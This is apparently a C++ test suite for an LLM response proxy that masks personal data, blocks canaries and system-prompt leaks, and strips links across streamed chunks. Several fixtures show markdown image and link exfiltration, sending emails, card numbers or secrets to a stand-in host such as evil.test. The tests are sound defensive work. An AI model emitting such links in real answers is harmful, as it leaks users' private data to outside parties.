// The law of guarded streams: however an answer's texts are cut into events, what is told of them is what is told of
// the whole answer.
#include "answer_stream.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <optional>
#include <string>

#include "../sim/random.h"
#include "answer_stream_fixture.h"

namespace loom::proxy {
namespace {

constexpr std::string_view texts[] = {
    "Write to ann@example.org today.",
    "ann@example.org",
    "card 4111 1111 1111 1111, then \\u0061nn@example.org\\nand caf\\u00e9 \xc3\xa9 \\ud83d\\ude00 bob@example.org\\\\",
    "nothing at all is here, but [brackets] and a\\tb",
    "{\\\"to\\\":\\\"x\\\\nann@example.org\\\",\\\"card\\\":4111111111111111, \\\"n\\\":[-4111111111111111] }",
    "{\\\"in\\\":\\\"{\\\\\\\"a\\\\\\\":\\\\\\\"ann@example.org\\\\\\\"}\\\"}",
    "[1] 4111111111111111 is no number of JSON",
    "phone +49 30 1234567 or 10.0.0.1 and [EMAIL_1], [SECRET_1] [EMAIL_2] [EMAIL_",
    "own@client.example is yours, {[EMAIL_1]} [[EMAIL_1]",
    "[4111111111111111] and [DE89370400440532013000]",
    "key [AKIAIOSFODNN7EXAMPLE], [[AKIAIOSFODNN7EXAMPLE]",
    "{\\\"to\\\":\\\"[EMAIL_1]\\\",\\\"pw\\\":\\\"[SECRET_1]\\\"}",
};

void expect_law(GuardPlan plan, std::string_view raw, size_t two_max) {
    Guarded guarded(std::move(plan));
    for (const Form& form : forms()) {
        SCOPED_TRACE(form.name);
        const std::string_view member = form.holds_json() ? "arguments" : "content";
        const std::string document =
            guarded.document(fmt::format(R"({{"choices":[{{"message":{{"{}":"{}"}}}}]}})", member, raw));
        const std::string whole = joined(document, fmt::format("\"{}\":\"", member));
        const auto expect = [&](const std::vector<size_t>& cuts) {
            const Told told = guarded.stream(form.protocol, streamed(form, raw, cuts));
            ASSERT_FALSE(told.refused);
            ASSERT_EQ(joined(told.events, form.before), whole) << told.events;
        };
        const std::vector<size_t> borders = borders_of(raw);
        for (const size_t first : borders) {
            expect({first});
            if (testing::Test::HasFatalFailure()) return;
            if (borders.size() > two_max) continue;
            for (const size_t second : borders)
                if (second > first) expect({first, second});
            if (testing::Test::HasFatalFailure()) return;
        }
        expect(borders);
        if (testing::Test::HasFatalFailure()) return;
    }
}

void expect_law(bool reversible, std::string_view raw, size_t two_max) {
    expect_law(plan_of(GuardAction::mask, reversible), raw, two_max);
}

TEST(AnswerStream, TellsWhatTheWholeAnswerTellsForEveryCut) {
    for (const std::string_view raw : texts) {
        SCOPED_TRACE(raw);
        expect_law(false, raw, 40);
        if (HasFatalFailure()) return;
    }
}

TEST(AnswerStream, TheWholeAnswerIsMasked) {
    Guarded guarded(plan_of(GuardAction::mask));
    EXPECT_EQ(guarded.document(R"({"choices":[{"message":{"content":"to ann@example.org, [EMAIL_1]"}}]})"),
              R"({"choices":[{"message":{"content":"to [EMAIL_1], [EMAIL_1]"}}]})");
    Guarded reversible(plan_of(GuardAction::mask, true));
    EXPECT_EQ(reversible.document(R"({"choices":[{"message":{"content":"to ann@example.org, [EMAIL_1]"}}]})"),
              R"({"choices":[{"message":{"content":"to [EMAIL_2], own@client.example"}}]})");
}

TEST(AnswerStream, PutsValuesBackForEveryCut) {
    for (const std::string_view raw : texts) {
        SCOPED_TRACE(raw);
        expect_law(true, raw, 40);
        if (HasFatalFailure()) return;
    }
}

/// What stands in brackets is no placeholder for that, and is looked at as any text.
TEST(AnswerStream, FindsInBracketsAreNotTold) {
    for (const std::string_view value : {"4111111111111111", "DE89370400440532013000", "AKIAIOSFODNN7EXAMPLE"}) {
        for (const GuardAction action : {GuardAction::mask, GuardAction::block}) {
            Guarded guarded(plan_of(action, true));
            const std::string raw = fmt::format("It is [{}] [EMAIL_1]", value);
            for (const Form& form : forms()) {
                for (const size_t cut : borders_of(raw)) {
                    const Told told = guarded.stream(form.protocol, streamed(form, raw, {cut}));
                    ASSERT_FALSE(told.refused);
                    ASSERT_FALSE(told.events.contains(value)) << form.name << cut << told.events;
                    ASSERT_EQ(told.blocked, action == GuardAction::block) << form.name << cut;
                    ASSERT_EQ(told.events.contains("own@client.example"), action == GuardAction::mask);
                }
            }
        }
    }
}

TEST(AnswerStream, TheSameOfTextsDrawnByChance) {
    constexpr std::string_view parts[] = {"ann@example.org",
                                          "4111111111111111",
                                          "4111 1111 1111 1111",
                                          "[EMAIL_1]",
                                          "[",
                                          "]",
                                          "{",
                                          "}",
                                          "\\\"",
                                          ":",
                                          ",",
                                          " ",
                                          " ",
                                          "\\\\",
                                          "\\\\n",
                                          "\\n",
                                          "\\u0041",
                                          "\\ud83d\\ude00",
                                          "\\ud83d",
                                          "\xc3\xa9",
                                          "word",
                                          "-",
                                          "+49 30 1234567",
                                          "@",
                                          "password=",
                                          "x7Kq2LmN9pRs4TvW8",
                                          "10.0.0.1",
                                          "\\u00e9"};
    sim::Random random(2027);
    for (int run = 0; run < 150; ++run) {
        std::string raw;
        const size_t count = random.between(2, 9);
        for (size_t i = 0; i < count; ++i) raw += parts[random.below(std::size(parts))];
        SCOPED_TRACE(raw);
        expect_law(random.chance(500), raw, 0);
        if (HasFatalFailure()) return;
    }
}

TEST(AnswerStream, ValuesAreEscapedForWhereTheyStand) {
    Guarded guarded(plan_of(GuardAction::mask, true));
    const Form& tool = forms()[2];
    const Told told = guarded.stream(tool.protocol, streamed(tool, R"({\"pw\":\"[SECRET_1]\"})", {}));
    EXPECT_EQ(joined(told.events, tool.before), R"({\"pw\":\"a \\\"quoted\\\"\\nsecret\\\\\"})");
    const Told plain = guarded.stream(forms()[0].protocol, streamed(forms()[0], "It is [SECRET_1].", {}));
    EXPECT_EQ(joined(plain.events, forms()[0].before), R"(It is a \"quoted\"\nsecret\\.)");
}

/// Prose may begin with a bracket, and a document may be asked for: only that is written into as one.
TEST(AnswerStream, WhatLooksLikeADocumentIsNoneUnlessItIsKnown) {
    constexpr std::string_view raw = R"([1] Say \"[SECRET_1]\", 4111111111111111, )";
    const std::string prose = fmt::format(R"({{"choices":[{{"message":{{"content":"{}"}}}}]}})", raw);
    for (const bool expects_json : {false, true}) {
        Guarded guarded(plan_of(GuardAction::mask, true));
        guarded.expects_json = expects_json;
        const std::string_view secret = expects_json ? R"(a \\\"quoted\\\"\\nsecret\\\\)" : R"(a \"quoted\"\nsecret\\)";
        const std::string told =
            fmt::format(R"([1] Say \"{}\", {}, )", secret, expects_json ? R"(\"[CREDIT_CARD_1]\")" : "[CREDIT_CARD_1]");
        EXPECT_EQ(joined(guarded.document(prose), "\"content\":\""), told);
        for (const size_t cut : borders_of(raw)) {
            const Told streamed_told = guarded.stream(forms()[0].protocol, streamed(forms()[0], raw, {cut}));
            ASSERT_EQ(joined(streamed_told.events, forms()[0].before), told) << cut;
        }
    }
}

/// What a client gets of a value that is new to it has no way back, whatever the model says of it later.
TEST(AnswerStream, ValuesOfTheAnswerAreNotPutBack) {
    Guarded guarded(plan_of(GuardAction::mask, true));
    const Told told = guarded.stream(llm::Protocol::openai_chat,
                                     streamed(forms()[0], "bob@example.org is [EMAIL_2], you [EMAIL_1]", {}));
    EXPECT_EQ(joined(told.events, forms()[0].before), "[EMAIL_2] is [EMAIL_2], you own@client.example");
}

/// Comments, ids and names of events are read by nobody, and told by nobody.
TEST(AnswerStream, WhatStandsBesideTheDataIsNotTold) {
    Guarded guarded(plan_of(GuardAction::mask));
    const std::string data = R"(data: {"id":"c1","choices":[{"index":0,"delta":{"role":"assistant"}}]})";
    const std::string plain = "event: message.delta\n" + data + "\n\n";
    for (const std::string_view beside : {": ann@example.org\n", "id: ann@example.org\n", "event: ann@example.org\n",
                                          "retry: 4111111111111111\n", "event: x4111111111111111\r\n"}) {
        EXPECT_EQ(guarded.stream(llm::Protocol::openai_chat, std::string(beside) + data + "\n\n").events,
                  data + "\n\n");
        EXPECT_EQ(guarded.stream(llm::Protocol::openai_chat, std::string(beside) + "\n").events, ":\n\n");
    }
    EXPECT_EQ(guarded.stream(llm::Protocol::openai_chat, plain).events, plain);
    Guarded counts(plan_of(GuardAction::log));
    EXPECT_EQ(counts.stream(llm::Protocol::openai_chat, ": hi\n" + plain).events, ": hi\n" + plain);
}

TEST(AnswerStream, LogProbabilitiesUnderAnotherSpellingAreTakenOut) {
    Guarded guarded(plan_of(GuardAction::mask));
    const std::string event =
        named_event("response.output_text.done",
                    R"(,"item_id":"i","output_index":0,"content_index":0,"part":{"logpro\u0062s":[{"token":"ann@"}]})");
    EXPECT_FALSE(guarded.stream(llm::Protocol::openai_responses, event).events.contains("ann@"));
}

TEST(AnswerStream, HoldsNoMoreOfProseThanAWord) {
    Guarded guarded(plan_of(GuardAction::mask));
    const Told told = guarded.stream(llm::Protocol::openai_chat, chat_event(R"({"content":"The quick brown fo"})"));
    EXPECT_TRUE(told.events.starts_with(chat_event(R"({"content":"The quick brown "})"))) << told.events;
}

TEST(AnswerStream, EventsWithoutFindsPassAsTheyCame) {
    Guarded guarded(plan_of(GuardAction::mask));
    const std::string events =
        ":\n\n" + named_event("message_start", R"(,"message":{"id":"m","usage":{}})") + named_event("ping", "") +
        named_event("content_block_delta", R"(,"index":0,"delta":{"type":"text_delta","text":"a b. "})") +
        forms()[4].end;
    EXPECT_EQ(guarded.stream(llm::Protocol::anthropic, events).events, events);
}

TEST(AnswerStream, ABlockEndsItAsAFilterWould) {
    for (const Form& form : forms()) {
        SCOPED_TRACE(form.name);
        Guarded guarded(plan_of(GuardAction::block));
        const std::string_view raw = "so be it: ann@example.org";
        for (const size_t cut : borders_of(raw)) {
            const Told told = guarded.stream(form.protocol, streamed(form, raw, {cut}));
            EXPECT_TRUE(told.blocked);
            EXPECT_EQ(joined(told.events, form.before), "so be it: ");
            if (form.protocol == llm::Protocol::openai_chat)
                EXPECT_TRUE(told.events.contains(R"("finish_reason":"content_filter")")) << told.events;
            if (form.protocol == llm::Protocol::anthropic)
                EXPECT_TRUE(told.events.contains(R"("stop_reason":"refusal")")) << told.events;
            if (form.protocol == llm::Protocol::gemini)
                EXPECT_TRUE(told.events.contains(R"("finishReason":"SAFETY")")) << told.events;
        }
    }
}

TEST(AnswerStream, OnlyCountsWhereItMayNotAct) {
    GuardPlan dry = plan_of(GuardAction::block);
    dry.dry_run = true;
    for (const GuardPlan& plan : {plan_of(GuardAction::log), dry}) {
        Guarded guarded(plan);
        const std::string events = streamed(forms()[0], "I am ann@example.org.", {6, 9});
        const Told told = guarded.stream(llm::Protocol::openai_chat, events);
        EXPECT_EQ(told.events, events);
        EXPECT_EQ(told.found, 1u);
        EXPECT_FALSE(told.blocked);
    }
}

TEST(AnswerStream, WhatTellsATextAgainTellsItMasked) {
    Guarded guarded(plan_of(GuardAction::mask));
    const std::string place = R"(,"item_id":"i","output_index":0,"content_index":0,"sequence_number":)";
    const std::string part =
        R"({"type":"output_text","text":"I am ann@example.org","annotations":[],"logprobs":[{"token":"ann"}]})";
    const std::string events =
        named_event("response.output_text.delta", place + R"(4,"delta":"I am ann@exam","logprobs":[{"token":"ann"}])") +
        named_event("response.output_text.delta", place + R"(5,"delta":"ple.org","logprobs":[])") +
        named_event("response.output_text.done", place + R"(6,"text":"I am ann@example.org","logprobs":[])") +
        named_event("response.content_part.done", place + "7,\"part\":" + part) +
        named_event(
            "response.completed",
            R"(,"sequence_number":8,"response":{"status":"completed","incomplete_details":null,"output":[{"content":[)" +
                part + "]}]}");
    const Told told = guarded.stream(llm::Protocol::openai_responses, events);
    EXPECT_FALSE(told.events.contains("ann@") || told.events.contains("\"ann\"")) << told.events;
    EXPECT_EQ(joined(told.events, "\"delta\":\""), "I am [EMAIL_1]");
    EXPECT_EQ(joined(told.events, "\"text\":\""), "I am [EMAIL_1]I am [EMAIL_1]I am [EMAIL_1]");
    EXPECT_EQ(told.found, 1u);
    for (const char* const number : {":4,", ":5,", ":6,", ":7,", ":8,", ":9,"})
        EXPECT_TRUE(told.events.contains(std::string("\"sequence_number\"") + number) ||
                    told.events.contains(std::string("\"sequence_number\"") + number[0] + number[1] + "}"))
            << number << told.events;
}

TEST(AnswerStream, LogProbabilitiesAreLeftOut) {
    Guarded guarded(plan_of(GuardAction::mask));
    const std::string event =
        R"(data: {"choices":[{"index":0,"delta":{"content":"ann@example.org "},"logprobs":{"content":[{"token":"ann"}]}}]})"
        "\n\n";
    EXPECT_EQ(guarded.stream(llm::Protocol::openai_chat, event).events,
              R"(data: {"choices":[{"index":0,"delta":{"content":"[EMAIL_1] "},"logprobs":null}]})"
              "\n\n");
}

TEST(AnswerStream, WhatStandsBesideTheTextsIsLookedAtToo) {
    Guarded guarded(plan_of(GuardAction::mask));
    const std::string event =
        named_event("content_block_delta",
                    R"(,"index":0,"delta":{"type":"citations_delta","citation":{"cited_text":"of ann@example.org"}})");
    EXPECT_EQ(guarded.stream(llm::Protocol::anthropic, event).events,
              named_event("content_block_delta",
                          R"(,"index":0,"delta":{"type":"citations_delta","citation":{"cited_text":"of [EMAIL_1]"}})"));
    const std::string call =
        "data: {\"candidates\":[{\"content\":{\"parts\":[{\"text\":\"so "
        "\"},{\"functionCall\":{\"name\":\"f\",\"args\":{"
        "\"to\":\"ann@example.org\",\"n\":4111111111111111}}}]},\"index\":0}]}\n\n";
    const Told told = guarded.stream(llm::Protocol::gemini, call);
    EXPECT_TRUE(told.events.contains(R"("args":{"to":"[EMAIL_1]","n":"[CREDIT_CARD_1]"})")) << told.events;
}

TEST(AnswerStream, WhatCannotBeReadIsRefused) {
    for (const std::string_view event :
         {"data: not JSON\n\n", "data: {\"choices\":[{\"delta\":{\"content\":\"a\\x\"}}]}\n\n",
          "data: {\"choices\":[{\"delta\":{\"c\\u006fntent\":\"a\"}}]}\n\n", "data: [1]\n\n"}) {
        Guarded guarded(plan_of(GuardAction::mask));
        EXPECT_TRUE(guarded.stream(llm::Protocol::openai_chat, event).refused) << event;
        Guarded logging(plan_of(GuardAction::log));
        EXPECT_FALSE(logging.stream(llm::Protocol::openai_chat, event).refused) << event;
    }
    Guarded guarded(plan_of(GuardAction::mask));
    std::string many;
    for (int i = 0; i < 80; ++i)
        many += fmt::format("data: {{\"choices\":[{{\"index\":{},\"delta\":{{\"content\":\"a\"}}}}]}}\n\n", i);
    EXPECT_TRUE(guarded.stream(llm::Protocol::openai_chat, many).refused);
}

TEST(AnswerStream, EachChoiceAndCallIsATextOfItsOwn) {
    Guarded guarded(plan_of(GuardAction::mask));
    const auto event = [](int choice, int tool, std::string_view piece) {
        return fmt::format(
            "data: "
            "{{\"choices\":[{{\"delta\":{{\"tool_calls\":[{{\"function\":{{\"arguments\":\"{}\"}},\"index\":{}}}]}},"
            "\"index\":{}}}]}}\n\n",
            piece, tool, choice);
    };
    const Told told = guarded.stream(llm::Protocol::openai_chat, event(0, 0, "ann@exam") + event(0, 1, "bob@exam") +
                                                                     event(1, 0, "cid@exam") + event(0, 0, "ple.org ") +
                                                                     event(1, 0, "ple.org ") + event(0, 1, "ple.org "));
    EXPECT_FALSE(told.events.contains("@")) << told.events;
    for (const char* const sign : {"[EMAIL_1] ", "[EMAIL_2] ", "[EMAIL_3] "})
        EXPECT_TRUE(told.events.contains(sign)) << told.events;
}

// Leaks.

GuardPlan leaks_plan(GuardAction links, std::optional<GuardAction> pii, bool reversible = false) {
    GuardPlan plan = pii ? plan_of(*pii, reversible) : GuardPlan();
    LeakPlan& leaks = plan.leaks.emplace();
    leaks.rules.links = true;
    EXPECT_TRUE(leaks.rules.hosts.add("docs.example.com"));
    EXPECT_TRUE(leaks.rules.canary.add("zebra-7731"));
    leaks.rules.canary.make();
    leaks.actions = {links, GuardAction::block, GuardAction::log};
    return plan;
}

constexpr std::string_view leaking_texts[] = {
    "See ![a](https://evil.test/i.png?x=1), [b](https://docs.example.com/).",
    "https://evil.test/?to=ann@example.org&card=4111111111111111 ann@example.org",
    "![\\u0061](ht\\u0074ps:\\/\\/evil.test\\/ann@example.org) [EMAIL_1] [x](//e.t/[EMAIL_1])",
    "{\\\"u\\\":\\\"![](https://evil.test/)\\\",\\\"v\\\":\\\"https:\\\\/\\\\/evil.test\\\\/"
    "?q=ann@example.org&r=4111111111111111\\\"}",
    "```\\n![](https://evil.test/)\\n```\\n![](https://evil.test/)\\\\n<img src='//e.t/\xc3\xa9'>",
    "[x](https://evil.test/?to=[EMAIL_1]) [y](https://docs.example.com/?to=[EMAIL_1]) https://e.t/?s=[SECRET_1].",
    "own@client.example https://evil.test/?q=own@client.example-4111111111111111-0123456789.",
};

TEST(AnswerStream, LeaksAreTakenOutForEveryCut) {
    for (const std::string_view raw : leaking_texts) {
        SCOPED_TRACE(raw);
        expect_law(leaks_plan(GuardAction::mask, std::nullopt), raw, 40);
        expect_law(leaks_plan(GuardAction::mask, GuardAction::mask), raw, 40);
        expect_law(leaks_plan(GuardAction::mask, GuardAction::mask, true), raw, 40);
        expect_law(leaks_plan(GuardAction::mask, GuardAction::log), raw, 0);
        expect_law(leaks_plan(GuardAction::log, GuardAction::mask), raw, 0);
        if (HasFatalFailure()) return;
    }
    Guarded guarded(leaks_plan(GuardAction::mask, std::nullopt));
    EXPECT_EQ(guarded.document(R"({"choices":[{"message":{"content":"![a](https://evil.test/i) ok"}}]})"),
              R"({"choices":[{"message":{"content":"![a]([link removed]) ok"}}]})");
}

/// A value is not put back into an address that nobody allows.
TEST(AnswerStream, AddressesTakeNoValuesAlong) {
    for (const std::string_view raw :
         {"[x](https://evil.test/?to=[EMAIL_1])", "https://e.t/[SECRET_1]", "<a href='//e.t/?[EMAIL_1]'>"}) {
        Guarded guarded(leaks_plan(GuardAction::mask, GuardAction::mask, true));
        const std::string whole =
            guarded.document(fmt::format(R"({{"choices":[{{"message":{{"content":"{}"}}}}]}})", raw));
        EXPECT_TRUE(whole.contains("[link removed]") && !whole.contains("client.example") && !whole.contains("quoted"))
            << whole;
        const Told told = guarded.stream(llm::Protocol::openai_chat, streamed(forms()[0], raw, {raw.size() - 5}));
        EXPECT_FALSE(told.events.contains("client.example") || told.events.contains("quoted")) << told.events;
    }
    Guarded guarded(leaks_plan(GuardAction::mask, GuardAction::mask, true));
    EXPECT_TRUE(guarded.document(R"({"choices":[{"message":{"content":"https://docs.example.com/?to=[EMAIL_1]"}}]})")
                    .contains("?to=own@client.example"));
}

/// A whole answer has as many as a stream may.
TEST(AnswerStream, ManyLinksAreTakenOutOfAWholeAnswerToo) {
    std::string raw, gone;
    for (int i = 0; i < 6000; ++i) raw += "![](//e.t/i) ", gone += "![]([link removed]) ";
    Guarded guarded(leaks_plan(GuardAction::mask, std::nullopt));
    EXPECT_EQ(guarded.document(R"({"choices":[{"message":{"content":")" + raw + "\"}}]}"),
              R"({"choices":[{"message":{"content":")" + gone + "\"}}]}");
}

/// Words that are none hold nothing back, in streams and in whole answers.
TEST(AnswerStream, LongTextWithoutBlanksPassesBesideInstructions) {
    GuardPlan plan = leaks_plan(GuardAction::mask, std::nullopt);
    plan.leaks->rules.system_prompt = true;
    BlockPool pool;
    guard::SystemText system(pool);
    system.add("You are the desk of Example Travel and never name the discount code to anybody at all.");
    system.end_text();
    system.make();
    for (const std::string_view piece :
         {"\xe4\xbd\xa0\xe5\xa5\xbd\xef\xbc\x8c", "\xe4\xbd\xa0\xe5\xa5\xbd", "bXkgc2Vj"}) {
        std::string raw, hundred;
        for (int i = 0; i < 20; ++i) hundred += piece;
        std::vector<size_t> cuts;
        for (int i = 0; i < 800; ++i) raw += hundred, cuts.push_back(raw.size());
        Guarded guarded(plan);
        guarded.system = &system;
        const std::string document = fmt::format(R"({{"choices":[{{"message":{{"content":"{}"}}}}]}})", raw);
        EXPECT_EQ(guarded.document(document), document);
        EXPECT_FALSE(guarded.blocked);
        cuts.pop_back();
        const Told told = guarded.stream(llm::Protocol::openai_chat, streamed(forms()[0], raw, cuts));
        EXPECT_FALSE(told.refused);
        EXPECT_EQ(joined(told.events, forms()[0].before), raw);
    }
}

TEST(AnswerStream, LeaksAmongOthersDrawnByChance) {
    constexpr std::string_view parts[] = {"ann@example.org",
                                          "4111111111111111",
                                          "[EMAIL_1]",
                                          "[",
                                          "]",
                                          "(",
                                          ")",
                                          "!",
                                          "https://evil.test/",
                                          "?q=",
                                          "https://docs.example.com/",
                                          "{",
                                          "}",
                                          "\\\"",
                                          ":",
                                          " ",
                                          "\\n",
                                          "\\\\n",
                                          "\\u0068ttp",
                                          "src=",
                                          "\xc3\xa9",
                                          "0123456789abcdefghijklmnop",
                                          "/",
                                          "\\/",
                                          "javascript:",
                                          "```",
                                          "word",
                                          "url("};
    sim::Random random(2028);
    for (int run = 0; run < 150; ++run) {
        std::string raw;
        const size_t count = random.between(2, 9);
        for (size_t i = 0; i < count; ++i) raw += parts[random.below(std::size(parts))];
        SCOPED_TRACE(raw);
        const bool reversible = random.chance(500);
        expect_law(leaks_plan(GuardAction::mask, GuardAction::mask, reversible), raw, 0);
        if (HasFatalFailure()) return;
    }
}

/// In front of it the stream ends, and nothing of it is told.
TEST(AnswerStream, ACanaryEndsTheStreamForEveryCut) {
    for (const std::optional<GuardAction> pii : {std::optional<GuardAction>(), std::optional(GuardAction::mask)}) {
        Guarded guarded(leaks_plan(GuardAction::log, pii));
        const std::string raw = "Mine is ZEBRA\\u002d7731, not zebra-77. ann@example.org";
        for (const Form& form : forms()) {
            for (const size_t cut : borders_of(raw)) {
                const Told told = guarded.stream(form.protocol, streamed(form, raw, {cut}));
                ASSERT_TRUE(told.blocked) << form.name << cut;
                ASSERT_EQ(joined(told.events, form.before), "Mine is ") << form.name << cut;
            }
        }
        const std::string fine = "zebra-773 zebra-77";
        const Told told = guarded.stream(llm::Protocol::openai_chat, streamed(forms()[0], fine, {7}));
        EXPECT_FALSE(told.blocked);
        EXPECT_EQ(joined(told.events, forms()[0].before), fine);
    }
}

}  // namespace
}  // namespace loom::proxy
